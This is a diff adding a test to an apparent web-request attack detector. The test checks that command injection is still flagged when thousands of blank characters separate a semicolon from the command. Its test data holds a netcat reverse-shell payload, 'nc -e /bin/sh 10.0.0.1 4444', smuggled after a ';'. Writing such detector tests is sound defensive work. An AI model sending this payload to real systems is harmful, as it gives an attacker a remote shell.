@@ -55,3 +55,18 @@ test('detectRequest finds attack across a piece boundary', () => {
   const found = detectRequest(post('text/plain', `${padding}${attack}${'b '.repeat(8192)}`), NO_BUDGET).map((detection) => detection.class);
   assert.ok(found.includes('xss'), `xss not found: ${found.join(', ')}`);
 });
+
+test('blanks cannot split an operator from its command', () => {
+  for (const [name, contentType, blanks, build] of [
+    ['form, encoded spaces', 'application/x-www-form-urlencoded', '%20'.repeat(3000), (value: string) => `q=${value}`],
+    ['text, spaces and line breaks', 'text/plain', ' \n'.repeat(3000), (value: string) => value],
+  ] as const) {
+    for (const offset of [0, 5000, 7000, 7900, 11000]) {
+      const value = `${'a'.repeat(offset)};${blanks}nc -e /bin/sh 10.0.0.1 4444`;
+
+      const found = detectRequest(post(contentType, build(value)), NO_BUDGET).map((detection) => detection.class);
+
+      assert.ok(found.includes('rce'), `${name}, ';' at ${offset}: found ${found.join(', ') || 'nothing'}`);
+    }
+  }
+});
